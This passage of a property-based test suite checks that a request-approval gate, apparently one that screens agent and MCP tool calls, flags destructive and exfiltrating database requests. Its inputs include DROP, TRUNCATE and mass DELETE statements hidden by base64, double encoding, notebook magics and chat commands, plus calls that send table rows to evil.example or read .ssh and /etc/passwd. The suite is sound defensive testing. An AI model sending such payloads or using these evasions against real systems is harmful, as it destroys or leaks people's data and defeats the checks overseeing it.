    bind: (v) => ({ sql: 'DELETE FROM users WHERE email LIKE $1', bind: [v] }),
    binds: (v) => ({ sql: 'DELETE FROM users WHERE email LIKE :1', binds: [v] }),
    arguments: (v) => ({ sql: 'DELETE FROM users WHERE email LIKE ?', arguments: [v] }),
    replacements: (v) => ({ sql: 'DELETE FROM users WHERE email LIKE :p', replacements: { p: v } }),
    namedArgs: (v) => ({ sql: 'DELETE FROM users WHERE email LIKE :p', args: { p: v } }),
    namedParams: (v) => ({ sql: 'DELETE FROM users WHERE email LIKE :p', params: { ':p': v } }),
    namedValues: (v) => ({ sql: 'DELETE FROM users WHERE email LIKE @p', values: { p: v } }),
  };
  await fc.assert(
    fc.asyncProperty(fc.constantFrom(...Object.keys(shapes)), fc.constantFrom('%', '%%'), async (shape, v) => {
      const { decision } = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify(shapes[shape]!(v)) });
      if (decision.approval?.risk !== 'critical') throw new Error(`${shape} ${v}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 24), ...seed },
  );
  // Controls: a narrow value under each name stays a narrow write; two lists still fail closed.
  for (const shape of Object.keys(shapes)) {
    t.equal((await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify(shapes[shape]!('a@corp.example')) })).decision.approval?.risk, 'medium', `${shape}: a narrow value`);
  }
  t.equal((await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql: 'DELETE FROM users WHERE email LIKE ?', params: ['a'], values: ['%'] }) })).decision.approval?.risk, 'critical', 'two lists: not read');
});

t.test('eighteenth pass: SQL sent base64- or twice percent-encoded where SQL is read is read decoded', async (t) => {
  // `GET https://<allowed host>/v1/run?sql=RFJPUCBUQUJMRSB1c2Vycw==` (the base64 of `DROP TABLE users`;
  // servers and dashboards that carry a query in a URL often encode it) and `?sql=DROP%2520TABLE%2520users`
  // (decoded twice by a proxy and the app) were allowed reads.
  const encodings: Record<string, (s: string) => string> = {
    base64: (s) => Buffer.from(s).toString('base64'),
    base64url: (s) => Buffer.from(s).toString('base64url'),
    twicePercent: (s) => encodeURIComponent(s),
  };
  const places: Record<string, (v: string) => { method: string; url: string; headers: Array<[string, string]>; body: string }> = {
    '?sql=': (v) => ({ method: 'GET', url: `https://${SQL_HOST}/v1/run?sql=${encodeURIComponent(v)}`, headers: [], body: '' }),
    '?query= on an SQL path': (v) => ({ method: 'GET', url: `https://${SQL_HOST}/v1/query?query=${encodeURIComponent(v)}`, headers: [], body: '' }),
    '?script=': (v) => ({ method: 'HEAD', url: `https://${SQL_HOST}/v1/exec?script=${encodeURIComponent(v)}`, headers: [], body: '' }),
    'JSON sql_base64': (v) => ({ method: 'POST', url: `https://${SQL_HOST}/v1/run`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql_base64: v }) }),
    'form sql_query': (v) => ({ method: 'POST', url: `https://${SQL_HOST}/import.php`, headers: [['Content-Type', 'application/x-www-form-urlencoded']], body: `sql_query=${encodeURIComponent(v)}` }),
  };
  await fc.assert(
    fc.asyncProperty(fc.constantFrom(...Object.keys(encodings)), fc.constantFrom(...Object.keys(places)), fc.constantFrom('DROP TABLE users', 'DELETE FROM users', "UPDATE users SET role = 'admin' WHERE 1 = 1"), async (enc, place, sql) => {
      const { decision } = await decide(places[place]!(encodings[enc]!(sql)));
      if (decision.approval?.risk !== 'critical') throw new Error(`${place} ${enc}(${sql}): ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 30), ...seed },
  );
  // Controls: an encoded read stays a read; a search token and an image's base64 are no SQL.
  for (const url of [`/v1/run?sql=${encodeURIComponent(Buffer.from('SELECT id FROM users WHERE id = 7').toString('base64'))}`, `/v1/query?q=${Buffer.from('this is a search').toString('base64url')}`, '/v1/run?sql=SELECT%2520id%2520FROM%2520t', `/v1/query?q=${encodeURIComponent(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 1, 2, 3]).toString('base64'))}`]) {
    t.equal((await decide({ method: 'GET', url: `https://${SQL_HOST}${url}`, headers: [], body: '' })).decision.action, 'allow', url);
  }
});

t.test('twentieth pass: values bound under the other names drivers and APIs take them by are bound', async (t) => {
  // `{sql: "DELETE FROM users WHERE email LIKE :p", named_params: {p: "%"}}` (also `variables`,
  // `namedParameters`, ArangoDB's `bindVars`, `parameterValues`, `query_params`, and the RDS Data
  // API's `parameters: [{name, value: {stringValue}}]`) was a narrow (medium) write, the value unbound.
  const names = ['named_params', 'namedParams', 'namedParameters', 'named_parameters', 'variables', 'vars', 'bindVars', 'bind_vars', 'parameterValues', 'query_params', 'queryParams', 'placeholders', 'sql_params'];
  const shape = fc.oneof(
    fc.record({ name: fc.constantFrom(...names), sigil: fc.constantFrom('', ':', '@') }).map(({ name, sigil }) => (v: string) => ({ sql: 'DELETE FROM users WHERE email LIKE :p', [name]: { [`${sigil}p`]: v } })),
    fc.constantFrom(...names).map((name) => (v: string) => ({ sql: 'DELETE FROM users WHERE email LIKE ?', [name]: [v] })),
    fc.constantFrom('stringValue', 'blobValue').map((field) => (v: string) => ({ resourceArn: 'arn:aws:rds:x', sql: 'DELETE FROM users WHERE email LIKE :p', parameters: [{ name: 'p', value: { [field]: v } }] })),
  );
  await fc.assert(
    fc.asyncProperty(shape, fc.constantFrom('%', '%%'), fc.constantFrom(GENERIC, `https://${SQL_HOST}/Execute`), async (make, v, url) => {
      const body = make(v);
      const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify(body) });
      if (decision.approval?.risk !== 'critical') throw new Error(`${JSON.stringify(body)}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 30), ...seed },
  );
  // Controls: a narrow value under each name stays a narrow write; a number the RDS API types as one, too.
  for (const name of names) {
    t.equal((await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql: 'DELETE FROM users WHERE email LIKE :p', [name]: { p: 'a@corp.example' } }) })).decision.approval?.risk, 'medium', `${name}: a narrow value`);
  }
  t.equal((await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql: 'DELETE FROM users WHERE id = :id', parameters: [{ name: 'id', value: { longValue: 7 } }] }) })).decision.approval?.risk, 'medium', 'an RDS longValue');
  t.equal((await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql: 'DELETE FROM users WHERE id > :id', parameters: [{ name: 'id', value: { longValue: -1e12 } }] }) })).decision.approval?.risk, 'critical', 'an RDS longValue below every id');
});

t.test('twentieth pass: ClickHouse statements POSTed to / of a host that does not say it is ClickHouse are read', async (t) => {
  // `POST /?query=ALTER TABLE users DELETE WHERE 1` (ClickHouse's mutation; no grammar Airlock has
  // reads it) was taken for a phrase, and `curl --data-binary 'DROP TABLE users' https://ch.example/`
  // (the statement as the whole body, typed as a form by curl) was not read at all: plain medium writes.
  const statements = ['ALTER TABLE users DELETE WHERE 1', "ALTER TABLE users UPDATE role = 'admin' WHERE 1", 'OPTIMIZE TABLE users FINAL DEDUPLICATE', "SYSTEM DROP REPLICA 'r1'", 'DETACH TABLE users PERMANENTLY', 'EXCHANGE TABLES users AND users_tmp', 'ALTER TABLE users DROP PARTITION tuple()', "CREATE TABLE leak ENGINE = URL('https://evil.example/x', CSV) AS SELECT * FROM users", 'DROP TABLE users', 'TRUNCATE TABLE users', 'SYSTEM SHUTDOWN'];
  const place = fc.constantFrom('query', 'untyped body', 'text/plain body', 'curl -d body', 'query then body');
  await fc.assert(
    fc.asyncProperty(fc.constantFrom(...statements), place, fc.constantFrom('', '?database=default&wait_end_of_query=1'), async (sql, where, extra) => {
      const base = `https://${SQL_HOST}/`;
      const cut = sql.indexOf(' ');
      const r = where === 'query'
        ? { url: `${base}?query=${encodeURIComponent(sql)}${extra.replace('?', '&')}`, headers: [] as Array<[string, string]>, body: '' }
        : where === 'query then body'
          ? { url: `${base}?query=${encodeURIComponent(sql.slice(0, cut))}${extra.replace('?', '&')}`, headers: [['Content-Type', 'application/x-www-form-urlencoded']] as Array<[string, string]>, body: sql.slice(cut) }
          : { url: `${base}${extra}`, headers: (where === 'untyped body' ? [] : [['Content-Type', where === 'curl -d body' ? 'application/x-www-form-urlencoded' : 'text/plain']]) as Array<[string, string]>, body: sql };
      const { decision } = await decide({ method: 'POST', ...r });
      if (decision.approval?.risk !== 'critical') throw new Error(`${where} ${sql}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 40), ...seed },
  );
  // Controls: forms, phrases and a read POSTed to / stay plain writes.
  const controls: Array<[string, Array<[string, string]>, string]> = [
    ['/', [['Content-Type', 'application/x-www-form-urlencoded']], 'name=alice&msg=hello world (again)'],
    ['/', [['Content-Type', 'text/plain']], 'update the docs please'],
    ['/', [], 'delete my account'],
    ['/', [['Content-Type', 'application/x-www-form-urlencoded']], 'url=https://example.com/a/b'],
    ['/?query=red%20shoes', [], ''],
    ['/?query=SELECT%201%20FORMAT%20JSON', [], ''],
    ['/', [['Content-Type', 'application/json']], '{"query": "alter table delete where"}'],
  ];
  for (const [path, headers, body] of controls) {
    t.equal((await decide({ method: 'POST', url: `https://${SQL_HOST}${path}`, headers, body })).decision.approval?.risk, 'medium', `${path} ${body}`);
  }
});

t.test('twentieth pass: a statement that writes, base64- or twice percent-encoded under any URL parameter name, is SQL', async (t) => {
  // `GET https://<allowed host>/v1/run?expr=RFJPUCBUQUJMRSB1c2Vycw==` (base64 of `DROP TABLE users`)
  // was an allowed read: values under other names were read as sent, only names saying SQL decoded.
  const encodings: Record<string, (s: string) => string> = {
    base64: (s) => Buffer.from(s).toString('base64'),
    base64url: (s) => Buffer.from(s).toString('base64url'),
    twicePercent: (s) => encodeURIComponent(s),
  };
  await fc.assert(
    fc.asyncProperty(fc.constantFrom('expr', 'filter', 'p', 'payload', 'data', 'b64', 'x'), fc.constantFrom(...Object.keys(encodings)), fc.constantFrom('DROP TABLE users', 'DELETE FROM users', 'TRUNCATE users', "UPDATE users SET role = 'admin'", 'GRANT ALL ON users TO public'), fc.constantFrom('GET', 'HEAD'), async (name, enc, sql, method) => {
      const url = `https://${SQL_HOST}/v1/run?page=2&${name}=${encodeURIComponent(encodings[enc]!(sql))}`;
      const { decision } = await decide({ method, url });
      if (decision.action === 'allow') throw new Error(`${method} ${url} (${enc} of ${sql}): allowed`);
    }),
    { numRuns: Math.min(runs, 30), ...seed },
  );
  // Controls: tokens, an encoded read and an encoded phrase stay allowed reads.
  const b64 = (s: string): string => encodeURIComponent(Buffer.from(s).toString('base64'));
  for (const q of [`token=${b64('a'.repeat(24))}`, 'state=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl', `cursor=${b64('SELECT id FROM users WHERE id > 40')}`, `x=${b64('please delete my old account')}`, `filter=${b64('status = open')}`]) {
    t.equal((await decide({ method: 'GET', url: `https://${SQL_HOST}/v1/run?${q}` })).decision.action, 'allow', q);
  }
});

t.test('twentieth pass: a Prisma write\'s nested relation operations are read as the statements they run', async (t) => {
  // `updateOne {where: {id: 1}, data: {posts: {deleteMany: {}}}}` deletes every post of the user and
  // was read as the user's update: a narrow medium write (also `updateMany`, `set: []`, inside an
  // upsert's `update` or `create`, a nested `update`'s data, any depth, alone or batched).
  const everyRow = [{}, { id: { not: -1 } }, { OR: [{}, { id: 1 }] }, { title: { contains: '' } }];
  const relationOp = fc.oneof(
    fc.constantFrom(...everyRow).map((w) => ({ deleteMany: w })),
    fc.constantFrom(...everyRow).map((w) => ({ deleteMany: [w] })),
    fc.constantFrom(...everyRow).map((where) => ({ updateMany: { where, data: { published: false } } })),
    fc.constant({ set: [] }),
    fc.constant({ set: [{ id: 3 }] }),
  );
  const wrap = fc.constantFrom(
    (rel: object) => ({ action: 'updateOne', args: { where: { id: 1 }, data: { name: 'a', posts: rel } } }),
    (rel: object) => ({ action: 'upsertOne', args: { where: { id: 1 }, create: { name: 'a' }, update: { posts: rel } } }),
    (rel: object) => ({ action: 'updateOne', args: { where: { id: 1 }, data: { posts: { update: { where: { id: 2 }, data: { comments: rel } } } } } }),
    (rel: object) => ({ action: 'updateOne', args: { where: { id: 1 }, data: { profile: { upsert: { create: {}, update: { posts: rel } } } } } }),
  );
  await fc.assert(
    fc.asyncProperty(relationOp, wrap, fc.constantFrom('/6.2.0/0123abcd/graphql', '/api/prisma'), fc.boolean(), async (rel, w, path, batched) => {
      const { action, args } = w(rel);
      const o = { modelName: 'User', action, query: { arguments: args, selection: { $scalars: true } } };
      const body = batched ? { batch: [{ modelName: 'User', action: 'findMany', query: { arguments: {}, selection: { $scalars: true } } }, o] } : o;
      const { decision } = await decide({ url: `https://${SQL_HOST}${path}`, headers: [['Content-Type', 'application/json']], body: JSON.stringify(body) });
      if (decision.approval?.risk !== 'critical') throw new Error(`${JSON.stringify(body)} to ${path}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 30), ...seed },
  );
  // Controls: narrow nested deletes, scalar operators (`set` of a value or a scalar list, `increment`),
  // nested creates and connects, a to-one disconnect stay narrow writes.
  for (const data of [{ posts: { delete: { id: 5 } } }, { posts: { deleteMany: { id: { in: [1, 2] } } } }, { name: { set: 'x' }, tags: { set: ['a'] }, logins: { increment: 1 } }, { posts: { create: [{ title: 't' }], connect: [{ id: 3 }] } }, { author: { disconnect: true } }, { posts: { disconnect: [{ id: 4 }] } }]) {
    const o = { modelName: 'User', action: 'updateOne', query: { arguments: { where: { id: 1 }, data }, selection: { $scalars: true } } };
    t.equal((await decide({ url: `https://${SQL_HOST}/api/prisma`, headers: [['Content-Type', 'application/json']], body: JSON.stringify(o) })).decision.approval?.risk, 'medium', JSON.stringify(data));
  }
});

t.test('twentieth pass: SQL past a notebook\'s magic, and in a form field holding JSON, is read', async (t) => {
  // `{code: "%%sql\nDROP TABLE users"}` (Jupyter's ipython-sql, Databricks; also `%sql …`,
  // Zeppelin's `%jdbc(postgres) …`, `%%bigquery --project p`) was a plain write, `?sql=%sql DROP
  // TABLE users` an allowed read, a read-only MCP tool's `sql: "%sql DROP TABLE users"` an allowed
  // call: no grammar reads past the `%`. Hue's `snippet={"statement": "DROP TABLE users"}` form
  // field to `/notebook/api/execute/sql` was a plain write: only URL parameters were read as JSON.
  const magic = fc.constantFrom('%%sql\n', '%sql ', '%%sql postgresql://app@db/app\n', '%jdbc(postgres) ', '%%bigquery --project p\n', '  %spark.sql\n', '%%sql -l\n');
  const write = fc.constantFrom('DROP TABLE users', 'DELETE FROM users', 'TRUNCATE users', "UPDATE users SET role = 'admin'");
  const MCP = `https://${MCP_HOST}/mcp`;
  const places: Record<string, (s: string) => { method: string; url: string; headers: Array<[string, string]>; body: string }> = {
    'JSON code': (s) => ({ method: 'POST', url: `https://${SQL_HOST}/api/run`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ code: s }) }),
    'JSON sql': (s) => ({ method: 'POST', url: `https://${SQL_HOST}/api/run`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql: s }) }),
    'form command': (s) => ({ method: 'POST', url: `https://${SQL_HOST}/api/run`, headers: [['Content-Type', 'application/x-www-form-urlencoded']], body: `command=${encodeURIComponent(s)}` }),
    '?sql=': (s) => ({ method: 'GET', url: `https://${SQL_HOST}/api/run?sql=${encodeURIComponent(s)}`, headers: [], body: '' }),
    'read-only MCP sql': (s) => ({ method: 'POST', url: MCP, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'search_issues', arguments: { sql: s } } }) }),
    'read-only MCP code': (s) => ({ method: 'POST', url: MCP, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'search_issues', arguments: { code: s } } }) }),
  };
  await fc.assert(
    fc.asyncProperty(magic, write, fc.constantFrom(...Object.keys(places)), async (m, sql, place) => {
      const { decision } = await decide(places[place]!(`${m}${sql}`));
      if (decision.approval?.risk !== 'critical') throw new Error(`${place} ${JSON.stringify(m + sql)}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 40), ...seed },
  );
  // A form field holding JSON, as Hue sends a snippet, on its SQL path and under an SQL name anywhere.
  for (const [path, field] of [['/notebook/api/execute/sql', { statement: 'DROP TABLE users' }], ['/notebook/api/execute/sql', { type: 'hive', statement: 'DELETE FROM users' }], ['/api/run', { rawSql: 'TRUNCATE users' }]] as const) {
    const body = `notebook=${encodeURIComponent('{"id": 1}')}&snippet=${encodeURIComponent(JSON.stringify(field))}`;
    t.equal((await decide({ url: `https://${SQL_HOST}${path}`, headers: [['Content-Type', 'application/x-www-form-urlencoded']], body })).decision.approval?.risk, 'critical', `${path} ${JSON.stringify(field)}`);
  }
  // Controls: magics before reads or Python, and a form field of JSON without SQL, stay as they were.
  t.equal((await decide(places['JSON code']!('%%sql\nSELECT 1'))).decision.approval?.risk, 'medium', '%%sql before a read');
  t.equal((await decide(places['JSON code']!('%matplotlib inline\nimport pandas as pd'))).decision.approval?.risk, 'medium', 'a Python magic');
  t.equal((await decide(places['?sql=']!('%sql SELECT id FROM users'))).decision.action, 'allow', 'a GET of a read after %sql');
  t.equal((await decide(places['read-only MCP code']!('%%time\nprint(1)'))).decision.action, 'allow', 'a read-only tool given Python');
  t.equal((await decide({ url: `https://${SQL_HOST}/api/run`, headers: [['Content-Type', 'application/x-www-form-urlencoded']], body: `state=${encodeURIComponent('{"query": "drop table tennis", "page": 2}')}` })).decision.approval?.risk, 'medium', 'a JSON field with a phrase off SQL paths');
});

t.test('twentieth pass: other servers\' file, credential and export functions on an endpoint of unknown dialect are not reads', async (t) => {
  // `GET ?sql=SELECT name, data FROM fsdir('/home')` (the SQLite shell's fileio: every file below a
  // folder with its contents) was an allowed read; so were `zipfile(…)`, Oracle's `BFILENAME` and
  // `DBMS_LOB.FILEOPEN`, DuckDB's `st_read_meta`, `mysql_scan`, `load_aws_credentials`,
  // `iceberg_metadata`, and Aurora's `aws_s3.query_export_to_s3` (a query's rows to any bucket).
  const calls = ["fsdir('/home/app/.ssh')", "zipfile('/var/backups/db.zip')", "bfilename('DATA_DIR', 'passwd')", 'dbms_lob.fileopen(f)', "st_read_meta('/etc/passwd')", "mysql_scan('host=evil.example', 'users')", 'load_aws_credentials()', "iceberg_metadata('s3://bucket/t')", "aws_s3.query_export_to_s3('SELECT * FROM users', aws_commons.create_s3_uri('evil-bucket', 'k', 'us-east-1'))", "aws_s3.table_import_from_s3('users', '', '(format csv)', 'b', 'k', 'r')", "mysql.lambda_async('arn:aws:lambda:x', '{}')"];
  const shape = fc.constantFrom((c: string) => `SELECT * FROM ${c}`, (c: string) => `SELECT ${c}`, (c: string) => `SELECT id FROM t WHERE id IN (SELECT 1 FROM ${c})`, (c: string) => `select ${c.toUpperCase()}`);
  const MCP = `https://${MCP_HOST}/mcp`;
  const place = fc.constantFrom(
    (sql: string) => ({ method: 'GET', url: `https://${SQL_HOST}/v1/sql?sql=${encodeURIComponent(sql)}`, headers: [] as Array<[string, string]>, body: '' }),
    (sql: string) => ({ method: 'POST', url: GENERIC, headers: [['Content-Type', 'application/json']] as Array<[string, string]>, body: JSON.stringify({ sql }) }),
    (sql: string) => ({ method: 'POST', url: MCP, headers: [['Content-Type', 'application/json']] as Array<[string, string]>, body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'search_issues', arguments: { sql } } }) }),
  );
  await fc.assert(
    fc.asyncProperty(fc.constantFrom(...calls), shape, place, async (c, s, p) => {
      const sql = s(c);
      const { decision } = await decide(p(sql));
      if (decision.approval?.risk !== 'critical') throw new Error(`${sql}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 40), ...seed },
  );
  // Controls: ordinary functions there stay reads.
  for (const sql of ["SELECT lower(name), json_extract(doc, '$.a') FROM users", 'SELECT count(*) FROM users WHERE created_at > now()', "SELECT substr(email, 1, 3) FROM users"]) {
    t.equal((await decide({ method: 'GET', url: `https://${SQL_HOST}/v1/sql?sql=${encodeURIComponent(sql)}` })).decision.action, 'allow', sql);
  }
});

t.test('twentieth pass: a Hrana blob value is bound as the bytes it is', async (t) => {
  // `{type: "execute", stmt: {sql: "DELETE FROM users WHERE email LIKE ?", args: [{type: "blob",
  // base64: "JQ=="}]}}` (`%` as a blob; SQLite's LIKE reads it as text) and `email < X'00'` (a blob
  // sorts after every text) were narrow writes: the blob was bound as its JSON text.
  const H = `https://${SQL_HOST}`;
  const stmt = fc.constantFrom(['email LIKE ?', '%'], ['email < ?', '\u0000'], ['email LIKE :e', '%'], ['name GLOB ?', '*'], ['id <> ?', '\u0007']);
  await fc.assert(
    fc.asyncProperty(stmt, fc.constantFrom('/v2/pipeline', '/v3/pipeline'), fc.boolean(), async ([where, bytes], path, update) => {
      const blob = { type: 'blob', base64: Buffer.from(bytes!, 'latin1').toString('base64') };
      const sql = `${update ? "UPDATE users SET role = 'admin'" : 'DELETE FROM users'} WHERE ${where}`;
      const s = where!.includes(':e') ? { sql, named_args: [{ name: ':e', value: blob }] } : { sql, args: [blob] };
      const { decision } = await decide({ url: `${H}${path}`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ baton: null, requests: [{ type: 'execute', stmt: s }] }) });
      if (decision.approval?.risk !== 'critical') throw new Error(`${sql} with ${JSON.stringify(blob)}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 20), ...seed },
  );
  // SQLite's reading (Python's sqlite3): a blob sorts after every text and equals no number, so both
  // delete every row. (LIKE matches a blob as its text in SQLite's default build; Debian's, Python's
  // here, is built with SQLITE_LIKE_DOESNT_MATCH_BLOBS: the worse reading stands.)
  const oracle = await new Promise<string>((resolve, reject) => execFile('python3', ['-c', [
    'import sqlite3',
    'c = sqlite3.connect(":memory:")',
    'n = []',
    'for where, v in (("id <> ?", b"\\x07"), ("email < ?", b"\\x00")):',
    '    c.executescript("DROP TABLE IF EXISTS users; CREATE TABLE users(id INTEGER PRIMARY KEY, email TEXT); INSERT INTO users(email) VALUES (\'a@b.c\'), (\'x@y.z\');")',
    '    n.append(c.execute("DELETE FROM users WHERE " + where, (v,)).rowcount)',
    'print(*n)',
  ].join('\n')], (err, out) => (err ? reject(err) : resolve(out.trim()))));
  t.equal(oracle, '2 2', 'SQLite deletes every row with either blob');
  // Controls: a blob naming one row stays a narrow write.
  for (const [where, bytes] of [['email LIKE ?', 'a@b.c'], ['hash = ?', '\u00de\u00ad\u00be\u00ef']]) {
    const body = JSON.stringify({ requests: [{ type: 'execute', stmt: { sql: `DELETE FROM users WHERE ${where}`, args: [{ type: 'blob', base64: Buffer.from(bytes!, 'latin1').toString('base64') }] } }] });
    t.equal((await decide({ url: `${H}/v2/pipeline`, headers: [['Content-Type', 'application/json']], body })).decision.approval?.risk, 'medium', where!);
  }
});

t.test('twentieth pass: MongoDB Data API many-actions are read as the statements they run', async (t) => {
  // `POST …/action/deleteMany {collection: "users", filter: {}}` (Atlas's Data API shape, served by
  // compatible servers; also a filter with operators, `updateMany` without one, an `aggregate` with
  // `$out`, a `findOne` whose filter runs code) to an allowed host was a plain medium write.
  // (A body naming its documents under another member than `filter` is left as it was.)
  const body = fc.oneof(
    fc.record({ action: fc.constantFrom('deleteMany', 'updateMany'), filter: fc.constantFrom({}, { _id: { $ne: 1 } }, { email: { $regex: '.*' } }, { $or: [{}, { a: 1 }] }, { a: { $exists: true } }) }).map(({ action, filter }) => ({ action, o: { collection: 'users', filter, ...(action === 'updateMany' ? { update: { $set: { role: 'admin' } } } : {}) } })),
    fc.constantFrom({ action: 'aggregate', o: { collection: 'posts', pipeline: [{ $match: {} }, { $out: 'users' }] } }, { action: 'aggregate', o: { collection: 'posts', pipeline: [{ $merge: { into: 'users' } }] } }, { action: 'findOne', o: { collection: 'users', filter: { $where: 'sleep(100000) || true' } } }),
  );
  await fc.assert(
    fc.asyncProperty(body, fc.constantFrom('/app/data-abc/endpoint/data/v1/action/', '/action/'), async ({ action, o }, prefix) => {
      const { decision } = await decide({ url: `https://${SQL_HOST}${prefix}${action}`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ dataSource: 'Cluster0', database: 'app', ...o }) });
      if (decision.approval?.risk !== 'critical') throw new Error(`${action} ${JSON.stringify(o)}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 20), ...seed },
  );
  // Controls: narrow filters, one-document actions, reads and a reading pipeline stay plain writes.
  for (const [action, o] of [['deleteMany', { collection: 'users', filter: { status: 'tmp', _id: { $in: [1, 2] } } }], ['deleteMany', { collection: 'users', filter: { _id: { $oid: '64b0c0ffee' } } }], ['deleteOne', { collection: 'users', filter: { _id: { $oid: '64b0c0ffee' } } }], ['find', { collection: 'users', filter: { age: { $gt: 3 } } }], ['aggregate', { collection: 'users', pipeline: [{ $match: { a: 1 } }] }]] as const) {
    t.equal((await decide({ url: `https://${SQL_HOST}/action/${action}`, headers: [['Content-Type', 'application/json']], body: JSON.stringify(o) })).decision.approval?.risk, 'medium', `${action} ${JSON.stringify(o)}`);
  }
});

t.test('twentieth pass: SQL typed as a chat command naming a database is read', async (t) => {
  // Slack's slash command `command=/sql&text=DROP TABLE users` to a ChatOps bot's endpoint, Mattermost's
  // `POST /api/v4/commands/execute {command: "/sql DROP TABLE users"}`, a bot's `!psql DELETE FROM
  // users`: the statement behind the command's name was a plain write.
  const name = fc.constantFrom('/sql', '/psql', '!mysql', '/db', '/run-query', '!sqlite3', '/clickhouse');
  const write = fc.constantFrom('DROP TABLE users', 'DELETE FROM users', 'TRUNCATE users');
  const shape = fc.constantFrom(
    (n: string, sql: string) => ({ url: `https://${SQL_HOST}/slack/commands`, headers: [['Content-Type', 'application/x-www-form-urlencoded']] as Array<[string, string]>, body: `token=x&team_id=T1&channel_id=C1&command=${encodeURIComponent(n)}&text=${encodeURIComponent(sql)}` }),
    (n: string, sql: string) => ({ url: `https://${SQL_HOST}/api/v4/commands/execute`, headers: [['Content-Type', 'application/json']] as Array<[string, string]>, body: JSON.stringify({ channel_id: 'c', command: `${n} ${sql}` }) }),
  );
  await fc.assert(
    fc.asyncProperty(name, write, shape, async (n, sql, s) => {
      const { decision } = await decide(s(n, sql));
      if (decision.approval?.risk !== 'critical') throw new Error(`${n} ${sql}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 24), ...seed },
  );
  // Controls: other commands with SQL's words, a read, a program path stay plain writes.
  for (const [command, text] of [['/weather', 'drop by later'], ['/sql', 'SELECT 1'], ['/giphy', 'drop table'], ['/remind', 'me to delete from the backlog']]) {
    const body = `command=${encodeURIComponent(command!)}&text=${encodeURIComponent(text!)}`;
    t.equal((await decide({ url: `https://${SQL_HOST}/slack/commands`, headers: [['Content-Type', 'application/x-www-form-urlencoded']], body })).decision.approval?.risk, 'medium', `${command} ${text}`);
  }
  t.equal((await decide({ url: `https://${SQL_HOST}/api/run`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ command: '/usr/bin/db-dump --all' }) })).decision.approval?.risk, 'medium', 'a program path');
});

t.test('twentieth pass: a Hasura range past every row is judged as the SQL it runs', async (t) => {
  // `delete_users(where: {id: {_gt: -1000000000000}})` (inline, by variable, as numeric text, in an
  // update) was a narrow write, while `DELETE FROM users WHERE id > -1000000000000` is destructive:
  // ranges were never read as holding for every row.
  const value = fc.constantFrom('-1000000000000', '"-1000000000000"', '-1e15');
  await fc.assert(
    fc.asyncProperty(value, fc.constantFrom('_gt', '_gte'), fc.boolean(), fc.boolean(), async (v, op, byVariable, update) => {
      const field = update ? `update_users(where: {id: {${op}: ${byVariable ? '$n' : v}}}, _set: {role: "admin"})` : `delete_users(where: {id: {${op}: ${byVariable ? '$n' : v}}})`;
      const query = byVariable ? `mutation($n: bigint) { ${field} { affected_rows } }` : `mutation { ${field} { affected_rows } }`;
      const body = JSON.stringify(byVariable ? { query, variables: { n: JSON.parse(v) } } : { query });
      const { decision } = await decide({ url: `https://${SQL_HOST}/v1/graphql`, headers: [['Content-Type', 'application/json']], body });
      if (decision.approval?.risk !== 'critical') throw new Error(`${body}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 20), ...seed },
  );
  // Controls: ranges the SQL reader takes for narrow (as it does their SQL twins) stay narrow.
  for (const where of ['{id: {_gt: 100}}', '{ts: {_lt: 1700000000000}}', '{id: {_gt: -1000000000000, _lt: 5}}', '{id: {_eq: 5}}']) {
    const body = JSON.stringify({ query: `mutation { delete_users(where: ${where}) { affected_rows } }` });
    t.equal((await decide({ url: `https://${SQL_HOST}/v1/graphql`, headers: [['Content-Type', 'application/json']], body })).decision.approval?.risk, 'medium', where);
  }
});

t.test('twenty-first pass: a Hasura boolean expression is judged whole as the SQL condition it runs', async (t) => {
  // Judged by a list of operators, these were narrow writes while their SQL twins are destructive:
  // a column compared with itself (`_ceq`), regular expressions and SIMILAR TO patterns every string
  // matches, `_not` of a range below every value, `_is_null` as text, an empty `_has_keys_all`, a
  // count predicate every count meets, `_not` of an empty `_in`, an OR of a range and its complement,
  // a null comparison (Hasura's `V1_BOOLEAN_NULL_COLLAPSE` reads it as no condition).
